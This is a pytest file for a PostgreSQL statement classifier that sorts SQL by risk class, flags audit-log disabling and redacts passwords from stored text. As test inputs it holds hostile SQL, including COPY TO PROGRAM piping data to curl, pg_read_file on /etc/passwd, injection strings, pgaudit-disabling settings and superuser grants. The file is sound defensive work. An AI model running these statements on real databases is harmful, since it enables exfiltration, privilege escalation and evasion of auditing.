"""What a text of SQL is said to do, and what is kept of it."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jit.detect.activity.sql import read_statement
from jit.facts import ActivityClass

CLASSES = {
    "read": {
        "SELECT * FROM orders": "orders",
        "select count(*) from public.orders o, salaries s where o.id = s.id": "public.orders salaries",
        "WITH orders AS (SELECT * FROM salaries) SELECT * FROM orders": "salaries",
        "with salaries as (select * from salaries) select 1 from salaries": "salaries",
        "select extract(year from created), trim(both from x) from orders": "orders",
        "select 1 from a x(i, j), lateral generate_series(1, 3) g, b": "a b",
        "select * from ((a join b on true) join c on true), d": "a b c d",
        "select * from only (salaries)": "salaries",
        "table salaries": "salaries",
        "(select * from a) union select * from b": "a b",
        'select * from (select * from a join b using (id)) q left join "Weird Table" w on true': "a b Weird Table",
        "select * from orders where x is distinct from y": "orders",
        "select 1 from orders for no key update of orders": "orders",
        "select count(*) filter (where x) over (partition by y) from t tablesample system (5)": "t",
        "declare c cursor for select * from orders": "orders",
        "explain delete from x": "x",
        "select $$; drop table x $$ from t -- ; drop table y": "t",
        "select 'a;''b' as \"from x\" from t /* /* ; drop */ table */": "t",
        "begin": "",
        "RESET ROLE": "",
        "set client_encoding to 'UTF8'": "",
    },
    "write": {
        "update orders set a = 1 where id in (select id from x)": "orders x",
        "begin; delete from only orders using x; commit": "orders x",
        "insert into orders (a, b) values (1, 2) on conflict (a) do update set b = 2": "orders",
        "insert into t (table s)": "t s",
        "with gone as (delete from orders returning *) select * from gone": "orders",
        "explain (analyze, buffers) delete from x": "x",
        "prepare q as delete from x": "x",
        "merge into a using b on a.id = b.id when matched then delete": "a b",
        "truncate a, b": "a b",
        "lock table orders in exclusive mode": "orders",
        "copy orders (id) from stdin": "orders",
        "select nextval('s')": "nextval()",
    },
    "export": {"COPY orders TO STDOUT": "orders", "copy (select * from salaries) to '/tmp/x'": "salaries"},
    "config": {
        "set search_path to evil": "search_path",
        "select set_config('work_mem', '1', false)": "set_config()",
        "alter system set work_mem = 1": "",
    },
    "ddl": {
        "create table t as select * from salaries": "t salaries",
        "select a into t2 from orders": "t2 orders",
        "create index i on orders (x)": "orders",
        "/* nested /* x */ */ drop table x": "x",
        "alter table orders add column z int": "orders",
    },
    "exec": {
        "select steal('x') from orders": "orders steal()",
        "select * from pg_catalog.pg_read_file('/etc/passwd')": "pg_catalog.pg_read_file()",
        "select evil.lower('x')": "evil.lower()",
        "select query_to_xml('select * from salaries', true, false, '')": "query_to_xml()",
        "copy orders to program 'curl -T - example.com'": "orders program",
        "do $$ begin delete from x; end $$": "",
        "execute q(1)": "q()",
        "call p()": "p()",
        "load 'x'": "",
        "select 'a\\'; drop table x; --'": "…",
        "select /* from orders": "…",
        "frobnicate the database": "",
    },
    "privilege": {
        "SET ROLE jit_r_7f3k": "jit_r_7f3k",
        "set session authorization 'bob'": "bob",
        "grant select on table salaries to bob": "salaries",
        "alter table orders owner to bob": "orders",
        "create function f() returns void security definer language sql as $$ delete from x $$": "f",
        "alter default privileges grant select on tables to bob": "",
    },
    "account": {"create user bob": "bob", "alter role bob superuser": "bob", "select 1; drop role x": "x"},
}


@pytest.mark.parametrize("class_", CLASSES)
def test_a_statement_has_its_class_and_names_its_objects(class_: str):
    for sent, objects in CLASSES[class_].items():
        read = read_statement(sent)
        assert (read.class_, set(" ".join(read.objects).split())) == (class_, set(objects.split())), sent


def test_of_several_statements_the_most_serious_counts_and_no_object_is_lost():
    read = read_statement("SELECT * FROM a; GRANT ALL ON b TO bob; DELETE FROM c")
    assert (read.class_, read.objects) == (ActivityClass.PRIVILEGE, ("a", "b", "c"))


@pytest.mark.parametrize(
    ("sent", "objects"),
    [
        ("SELECT 1 FROM orders WINDOW w AS (), salaries AS () UNION SELECT 1 FROM salaries", ("orders", "salaries")),
        ("SELECT a::timestamp WITH TIME ZONE FROM x WINDOW w AS (), y AS () UNION SELECT 1 FROM y", ("x", "y")),
        ("WITH a AS (SELECT 1 FROM x), b AS (SELECT 1 FROM a) SELECT 1 FROM b", ("x",)),
        ("WITH RECURSIVE a(n) AS (SELECT 1), b AS MATERIALIZED (TABLE y) SELECT 1 FROM b, z", ("y", "z")),
        ("SELECT 1 FROM orders o JOIN x ON o.a = x.b, salaries WHERE x.b = 1", ("orders", "x", "salaries")),
        ("SELECT 1 FROM orders JOIN (VALUES (1)) v USING (a, b), salaries ORDER BY 1, 2", ("orders", "salaries")),
        ("SELECT 1 FROM orders o JOIN x ON CASE WHEN true THEN true END, salaries", ("orders", "x", "salaries")),
        ("SELECT 1 FROM orders add, x AS set, y values, salaries", ("orders", "x", "y", "salaries")),
        ("MERGE INTO x USING y ON true WHEN MATCHED THEN UPDATE SET a = 1, b = 2", ("x", "y")),
        ("SELECT public.system('x') FROM orders", ("orders", "public.system()")),
        ("GRANT SELECT ON orders, hr.salaries TO bob", ("orders", "hr.salaries")),
        ("REVOKE EXECUTE ON FUNCTION f(int, int), g(int) FROM bob", ("f", "g")),
        ("DROP SCHEMA orders, hr CASCADE", ("orders", "hr")),
    ],
)
def test_no_table_hides_behind_another_ones_name(sent: str, objects: tuple[str, ...]):
    assert read_statement(sent).objects == objects


def test_what_cannot_be_read_for_sure_is_serious_whatever_it_looks_like():
    """A backslash in a text means one thing or the other, and what is cut off may be anything."""
    for sent in (
        "select 'a\\'' ; drop table x --'",
        "select 1" + " " * 40_000 + "; drop table x",
        'select U&"d\\0061t"',
    ):
        assert read_statement(sent).class_ is ActivityClass.EXEC, sent[:40]
        assert "…" in read_statement(sent).objects, sent[:40]


def test_a_role_that_is_taken_on_is_told_and_so_is_the_way_back():
    for sent, role in (
        ("SET ROLE jit_r_7f3k", "jit_r_7f3k"),
        ("SET LOCAL ROLE 'jit_r_7f3k'", "jit_r_7f3k"),
        ('set session role "jit_r_7f3k"', "jit_r_7f3k"),
        ("SET ROLE a; SET ROLE b", "b"),
        ("RESET ROLE", ""),
        ("SET ROLE NONE", ""),
        ("SELECT 1", None),
    ):
        assert read_statement(sent).role == role, sent


def test_a_session_that_turns_its_log_off_is_told():
    for sent in (
        "SET log_statement = 'none'",
        "set local pgaudit.log to 'none'",
        "SET/**/log_min_messages TO panic",
        "select set_config('log_statement', 'none', false)",
        "ALTER ROLE alice SET log_statement = none",
        "ALTER SYSTEM SET logging_collector = off",
        "alter role alice in database orders set pgaudit.log = 'none'",
    ):
        assert read_statement(sent).hides, sent
    for sent in (
        "SET log_statement = 'all'",
        "SET x = 'log_statement'",
        "ALTER ROLE alice SET pgaudit.log = 'all'",
    ):
        assert not read_statement(sent).hides, sent


SECRET = "hunter2"


@pytest.mark.parametrize(
    "sent",
    [
        f"ALTER ROLE bob PASSWORD '{SECRET}'",
        f"alter role bob with encrypted password E'{SECRET}\\'x'",
        f"alter role bob password $a${SECRET}$a$",
        f"create user bob password/**/'{SECRET}'",
        f"create user bob identified by '{SECRET}'",
        f"insert into users (name, password) values ('a', '{SECRET}')",
        f"update users set api_key = '{SECRET}' where id = 1",
        f"select * from users where token = 'x' or '{SECRET}' = token",
        f"create user mapping for bob server s options (user 'bob', password '{SECRET}')",
        f"select dblink_connect('host=x user=y password={SECRET}')",
        f"select pgp_sym_decrypt(note, '{SECRET}') from t",
        f"select crypt('{SECRET}', gen_salt('bf'))",
        f"copy t to program 'curl -u bob:{SECRET} -T - https://x'",
        f"copy t to program 'PGPASSWORD={SECRET} psql -h x'",
        f"copy t to program 'curl -H \"Authorization: Bearer {SECRET}12345\" x'",
        f"copy t to program 'curl https://bob:{SECRET}@example.com/'",
        f"copy t to program 'mysql -u root -p{SECRET} x'",
        f"copy t to program 'x --secret-token={SECRET}'",
        f"create subscription s connection 'postgresql://u:{SECRET}@h/d' publication p",
        f"alter role bob password '{SECRET}",
        f"SELECT 'a\\'; ALTER ROLE b PASSWORD '{SECRET}'",
        f"do $$ begin execute 'alter role b password ''{SECRET}'''; end $$",
        "select 'AKIAHUNTER2HUNTER2AA' as hunter2x".replace("hunter2x", "x").replace("HUNTER2", SECRET.upper()),
    ],
)
def test_a_secret_in_a_statement_is_not_kept(sent: str):
    kept = read_statement(sent).text
    assert SECRET not in kept.lower()
    assert "***" in kept


def test_what_is_no_secret_is_kept():
    for sent in (
        "SELECT * FROM orders WHERE id = 'R-7F3K'",
        "COPY t TO PROGRAM 'gzip > /tmp/out'",
        "SET ROLE jit_r_7f3k",
    ):
        assert read_statement(sent).text == sent


@given(st.text(alphabet=st.sampled_from("'\"$/*-;\\ \n\0aeEuU&(),.=:1selctfromwithpaswrd\ud800é"), max_size=200))
def test_any_text_is_read(sent: str):
    read = read_statement(sent)
    assert len(read.text) <= 1000
    read.text.encode()


def test_a_long_text_takes_no_time_to_speak_of():
    """What is slow grows with the square of it: then these take minutes."""
    begins = time.process_time()
    parts = [
        "(",
        "a.",
        "from a,",
        "$a$",
        "'",
        "password ",
        "/*",
        "--\n",
        "token=",
        "with a as (",
        "://",
        "a@",
        "-u ",
        "A0",
    ]
    for part in [*parts, "=", "-p", "mysql ", "with a as (select 1 from a),", "authorization:", "password''"]:
        read_statement(part * (100_000 // len(part)))
    assert time.process_time() - begins < 30
